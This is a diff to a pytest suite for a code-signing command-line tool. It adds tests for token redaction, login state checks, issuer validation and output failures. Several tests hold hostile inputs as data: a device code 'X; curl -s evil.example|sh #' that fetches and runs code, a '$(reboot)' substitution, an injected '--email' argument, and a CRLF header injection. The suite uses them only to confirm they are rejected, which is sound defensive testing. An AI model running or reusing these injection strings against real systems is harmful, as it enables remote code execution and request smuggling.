@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import io
 import json
+import re
+import resource
 import sys
 import threading
 import webbrowser
@@ -124,6 +126,20 @@ def test_a_servers_words_are_escaped(here, server, capsys):
     assert r"closed \x1b[2J" in capsys.readouterr().err
 
 
+@pytest.mark.attack("secret repeated in an error")
+@pytest.mark.parametrize("form", ["text", "json"])
+@pytest.mark.parametrize("status", [200, 400, 401, 503])
+def test_an_authority_that_repeats_the_token_has_it_shown_nowhere(here, server, capsys, form, status):
+    token = (here / "token").read_text().strip()
+    third = len(token) // 3
+    parts = {"message": token[:third], "error": token[third : 2 * third], "error_description": token[2 * third :], token: token}
+    server.on("POST", "/ca/*").status(status, body=json.dumps(parts | {"signedCertificateEmbeddedSct": token}).encode())
+    assert blob("--identity-token", "token", "--wait", "1", "-o", form, "-vv") in {1, 3}
+    said = "".join(capsys.readouterr())
+    assert "SK-" in said
+    assert not [at for at in range(len(token) - 15) if token[at : at + 16] in said]
+
+
 def test_a_registry_that_takes_no_push_is_found_out_before_anything_is_public(release, running, server):
     running[1].on("POST", "/v2/*/blobs/uploads/").status(403)
     assert run(["sign", *FILES, "--identity-token", "token", release.reference]) == 3
@@ -189,9 +205,10 @@ def test_a_platform_that_gives_tokens_is_waited_for_as_long_as_is_said(here, mon
 
 
 class Browser:
-    """Opens a page as a person does who is sent back with `fields`."""
+    """Opens a page as a person does who is sent back with `fields`; a stranger brings something before."""
 
-    def __init__(self, **fields: str) -> None:
+    def __init__(self, stranger: str = "", **fields: str) -> None:
+        self.stranger = stranger
         self.fields = fields
 
     def __call__(self, url: str) -> bool:
@@ -201,10 +218,11 @@ class Browser:
         return True
 
     def _bring(self, redirect: str, brought: str) -> None:
-        connection = HTTPConnection(urlsplit(redirect).netloc, timeout=10)
-        connection.request("GET", f"{urlsplit(redirect).path}?{brought}")
-        connection.getresponse().read()
-        connection.close()
+        for query in filter(None, (self.stranger, brought)):
+            connection = HTTPConnection(urlsplit(redirect).netloc, timeout=10)
+            connection.request("GET", f"{urlsplit(redirect).path}?{query}")
+            connection.getresponse().read()
+            connection.close()
 
 
 def test_a_login_that_is_denied_ends_at_once_in_the_issuers_words(here, monkeypatch, server, capsys):
@@ -216,11 +234,14 @@ def test_a_login_that_is_denied_ends_at_once_in_the_issuers_words(here, monkeypa
     assert server.seen("POST", "*") == []
 
 
-@pytest.mark.attack("GHSA-hm8f-75xx-w2vr")
-def test_a_denial_without_this_logins_state_is_not_shown(here, monkeypatch, capsys):
-    monkeypatch.setattr(webbrowser, "open", Browser(error="access_denied", error_description="call 0900 1234", state="other"))
+@pytest.mark.attack("GHSA-hm8f-75xx-w2vr", "login ended by a stranger")
+def test_a_denial_without_this_logins_state_is_not_shown_and_ends_nothing(here, monkeypatch, capsys):
+    stranger = "error=access_denied&error_description=call+0900+1234&state=other"
+    monkeypatch.setattr(webbrowser, "open", Browser(stranger, error="access_denied", error_description="by hand"))
     assert blob("--login", "browser") == 1
-    assert "0900" not in capsys.readouterr().err
+    said = capsys.readouterr().err
+    assert "0900" not in said
+    assert "by hand" in said
 
 
 def test_a_login_at_a_stack_says_how_its_operator_approves_it(capsys, monkeypatch):
@@ -229,6 +250,41 @@ def test_a_login_at_a_stack_says_how_its_operator_approves_it(capsys, monkeypatc
     assert "sigkit stack approve DIR CODE --email" in capsys.readouterr().err
     Terminal().open("https://issuer.example/auth?client_id=sigstore")
     assert "stack" not in capsys.readouterr().err
+
+
+@pytest.mark.attack("command in a device code")
+@pytest.mark.parametrize(
+    ("code", "printed"),
+    [
+        ("BCDF-GHJK", True),
+        ("X; curl -s evil.example|sh #", False),
+        ("BCDF-GHJK --email evil@acme.example", False),
+        ("$(reboot)", False),
+        ("ABCD-EFGH", False),
+        ("bcdf-ghjk", False),
+    ],
+)
+def test_a_command_is_printed_for_no_code_but_of_a_stacks_own_form(capsys, code, printed):
+    Terminal().show_code("http://127.0.0.1:1/oidc/approve?x", code)
+    said = capsys.readouterr().err
+    assert f"with code   {code}" in said
+    assert ("sigkit stack approve" in said) is printed
+
+
+def test_a_job_is_told_by_subject_and_name(capsys):
+    Consent(agreed=True)(Publication("repo:acme/app", "https://i.example", ("http://127.0.0.1:1",), (), "acme/app/w.yml@main"))
+    said = capsys.readouterr().err
+    assert "signer    repo:acme/app, who https://i.example says it is" in said
+    assert "named     acme/app/w.yml@main" in said
+    Consent(agreed=True)(Publication("mia@acme.example", "https://i.example", ("http://127.0.0.1:1",), (), user_name="u-4711"))
+    assert "or named  u-4711, where user names are certified" in capsys.readouterr().err
+
+
+def test_a_token_whose_signature_is_malformed_is_sent_to_nobody(here, server, capsys):
+    (here / "token").write_bytes((here / "token").read_bytes().strip().rpartition(b".")[0] + b".abc\r\nX-Evil: 1")
+    assert blob("--identity-token", "token") == 2
+    assert "SK-PARSE-040" in capsys.readouterr().err
+    assert server.log == []
 
 
 def test_an_issuer_is_asked_by_the_name_that_it_is_given(here, server, capsys):
@@ -286,7 +342,113 @@ def test_a_token_that_an_authority_would_refuse_is_refused_and_sent_to_nobody(he
 def test_a_wait_is_told_with_its_reason(here, server, capsys):
     server.on("POST", "/log2/*", nth=1).status(429, retry_after=0, body=b'{"message":"slow down"}')
     assert blob("--identity-token", "token") == 0
-    assert f"waiting    0.0 s for {server.url}: 429 slow down" in capsys.readouterr().err
+    assert re.search(rf"waiting    0\.[0-9] s for {re.escape(server.url)}: 429 slow down", capsys.readouterr().err)
+
+
+OUTPUTS = {
+    "a directory that is missing": ("missing/out.json", "SK-UNAVAIL-002", "there is no such directory"),
+    "a directory": ("directory", "", "no regular file"),
+    "below a file": ("file/out.json", "SK-UNAVAIL-002", "there is no such directory"),
+    "a file system that takes none": ("/proc/out.json", "SK-UNAVAIL-002", "takes no file"),
+}
+
+
+ATTEST = ["attest-blob", "--type", "https://example.com/t", "--predicate", "p.json"]
+
+
+@pytest.mark.parametrize(("command", "option"), [(["sign-blob"], "--bundle"), (["sign-blob"], "--output-signature"), (ATTEST, "--bundle")])
+@pytest.mark.parametrize(("path", "code", "says"), OUTPUTS.values(), ids=list(OUTPUTS))
+def test_an_output_that_cannot_be_written_is_found_out_before_anything_is_published(
+    here, server, capsys, command, option, path, code, says
+):
+    (here / "directory").mkdir()
+    (here / "p.json").write_text("{}")
+    given = {"--bundle": "b.json", option: path}
+    words = [word for pair in given.items() for word in pair]
+    assert run([*command, *FILES, "--yes", "--identity-token", "token", *words, "file"]) == 2
+    said = capsys.readouterr().err
+    assert code in said
+    assert says in said
+    assert server.log == []
+    assert sorted(entry.name for entry in here.iterdir() if entry.name.startswith((".", "b."))) == []
+
+
+@pytest.fixture
+def elsewhere(here, monkeypatch):
+    """Let every request go nowhere, and note it."""
+    sent: list[bytes] = []
+
+    def resolve(host: bytes, *_: object, **__: object) -> list[object]:
+        sent.append(host)
+        return []
+
+    monkeypatch.setattr("socket.getaddrinfo", resolve)
+    return sent
+
+
+@pytest.mark.attack("private token to the public instance")
+@pytest.mark.parametrize("root", [(), ("--trusted-root", "public-good")])
+def test_a_token_of_a_private_issuer_is_not_sent_to_the_public_instance(here, elsewhere, capsys, root):
+    assert run(["sign-blob", "--yes", *root, "--identity-token", "token", "--bundle", "b.json", "file"]) == 2
+    said = capsys.readouterr().err
+    assert "SK-IDENT-051" in said
+    assert "--signing-config FILE --trusted-root FILE" in said
+    assert elsewhere == []
+
+
+def test_a_token_of_an_issuer_of_the_public_instance_is_sent_there(here, server, elsewhere, capsys):
+    (here / "token").write_text(server.instance.token(iss="https://token.actions.githubusercontent.com"))
+    assert run(["sign-blob", "--yes", "--wait", "1", "--identity-token", "token", "--bundle", "b.json", "file"]) == 3
+    assert set(elsewhere) == {b"fulcio.sigstore.dev"}
+
+
+def test_nobody_logs_in_at_a_private_issuer_for_the_public_instance(here, elsewhere, capsys):
+    assert run(["sign-blob", "--login", "device", "--oidc-issuer", "https://login.acme.example", "--bundle", "b.json", "file"]) == 2
+    assert "SK-IDENT-051" in capsys.readouterr().err
+    assert elsewhere == []
+
+
+@pytest.mark.parametrize(
+    ("issuer", "says"),
+    [
+        ("oauth2.sigstore.dev/auth", "SK-NET-007"),
+        ("https://", "SK-NET-007"),
+        ("https://a b.example", "SK-NET-007"),
+        ("https://oauth2.sigstore.dev/auth/", "calls itself https://oauth2.sigstore.dev/auth\n"),
+        ("http://oauth2.sigstore.dev/auth", "calls itself https://oauth2.sigstore.dev/auth\n"),
+        ("https://Accounts.google.com", "calls itself https://accounts.google.com\n"),
+    ],
+)
+def test_a_malformed_issuer_is_a_usage_error_and_a_near_miss_is_named(here, server, capsys, issuer, says):
+    assert blob("--login", "device", "--oidc-issuer", issuer) == 2
+    assert says in capsys.readouterr().err
+    assert server.log == []
+
+
+def test_a_page_in_the_place_of_a_token_is_no_refusal_and_no_usage_error(here, monkeypatch, server, capsys):
+    monkeypatch.setenv("GITHUB_ACTIONS", "true")
+    monkeypatch.setenv("ACTIONS_ID_TOKEN_REQUEST_URL", f"{server.url}/oidc/request")
+    monkeypatch.setenv("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "secret")
+    server.on("GET", "/oidc/request").answer(b"<!doctype html><h1>Log in</h1>")
+    assert blob() == 3
+    said = capsys.readouterr().err
+    assert "GitHub Actions: the answer to the request for a token is none" in said
+    assert "a page, as of a proxy or a login" in said
+
+
+@pytest.mark.parametrize("command", [["sign-blob"], ATTEST], ids=["sign-blob", "attest-blob"])
+def test_where_there_is_no_room_for_a_bundle_nothing_is_published(here, server, capsys, command):
+    (here / "p.json").write_text("{}")
+    before = resource.getrlimit(resource.RLIMIT_FSIZE)
+    resource.setrlimit(resource.RLIMIT_FSIZE, (4096, before[1]))  # as on a full disk: a file is made, and what is written fails
+    try:
+        status = run([*command, *FILES, "--yes", "--identity-token", "token", "--bundle", "b.json", "file"])
+    finally:
+        resource.setrlimit(resource.RLIMIT_FSIZE, before)
+    assert status == 2
+    assert "takes no file" in capsys.readouterr().err
+    assert server.log == []
+    assert [entry.name for entry in here.iterdir() if entry.name.startswith((".", "b."))] == []
 
 
 def test_who_is_passed_over_is_told(here, server, capsys):
@@ -344,10 +506,13 @@ def test_a_token_on_the_command_line_is_warned_of(here, capsys):
     assert "can be read by other users" not in capsys.readouterr().err
 
 
-@pytest.mark.parametrize(("typed", "status"), [("y\n", 0), ("n\n", 2), ("\n", 2), ("", 130)])
-def test_on_a_terminal_it_is_asked(here, monkeypatch, server, typed, status):
+@pytest.mark.parametrize(("typed", "status"), [("y\n", 0), ("n\n", 1), ("\n", 1), ("", 130)])
+def test_on_a_terminal_it_is_asked(here, monkeypatch, server, capsys, typed, status):
     monkeypatch.setattr(sys, "stdin", Keyboard(typed))
     assert blob("--identity-token", "token") == status
+    said = capsys.readouterr().err
+    assert ("stopped as you said; nothing was published" in said) is (status == 1)
+    assert "usage error" not in said
     assert (here / "b.json").exists() is (status == 0)
     assert bool(server.log) is (status == 0)
 
@@ -449,3 +614,21 @@ def test_the_conformance_suites_client_signs_and_verifies(here, server):
     who = ("--certificate-identity", SUBJECT, "--certificate-oidc-issuer", server.instance.issuer)
     assert conformance.run(["verify-bundle", "--bundle", "b.json", *who, *instance[:2], "file"]) == 0
     assert conformance.run(["sign-bundle", "--staging", "--identity-token", token, "--bundle", "c.json", "file"]) == 2
+
+
+def test_a_service_on_a_port_without_tls_is_said_to_be_one_and_is_not_asked_for_minutes(here, server, capsys):
+    plain = server.instance.config().decode()
+    (here / "sc.json").write_text(plain.replace("http://", "https://"))
+    assert blob("--identity-token", "token") == 3
+    said = capsys.readouterr().err
+    assert "SK-NET-011" in said
+    assert "http://127.0.0.1" in said
+    assert "waiting" not in said
+
+
+def test_a_registry_on_loopback_that_speaks_tls_says_how_to_name_its_authority(here, tmp_path, capsys):
+    identity = TlsIdentity.make(tmp_path, "localhost")
+    with MisbehavingRegistry(tls=identity.server_context()) as registry:
+        for command in (["sign", *FILES, "--identity-token", "token"], ["inspect"]):
+            assert run([*command, f"localhost:{registry.port}/t/app:1.0"]) == 3
+            assert "--registry-cacert FILE" in capsys.readouterr().err
